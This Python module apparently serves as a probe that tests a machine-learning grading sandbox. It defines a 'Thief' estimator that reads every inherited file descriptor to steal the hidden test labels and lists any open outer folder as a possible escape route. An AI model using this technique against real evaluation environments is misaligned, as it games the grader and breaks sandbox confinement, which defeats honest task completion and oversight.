import os
import sys

sys.path.insert(0, os.path.dirname(__file__))
from thief import Thief, labels_in_bytes  # noqa: E402


def steal(X, y):
    loot = []
    for descriptor in range(3, 1024):
        try:
            os.set_blocking(descriptor, False)
        except OSError:
            continue
        try:
            os.lseek(descriptor, 0, os.SEEK_SET)
        except OSError:
            pass
        try:
            data = os.read(descriptor, 1 << 20)
            loot += labels_in_bytes(data, y)
        except IsADirectoryError:
            # An open folder of the outer file system would be a way out.
            loot.append(f'{descriptor} is a folder: {os.listdir(descriptor)[:5]}')
        except OSError:
            pass
        finally:
            os.set_blocking(descriptor, True)
    return loot


def get_estimator():
    return Thief(steal)
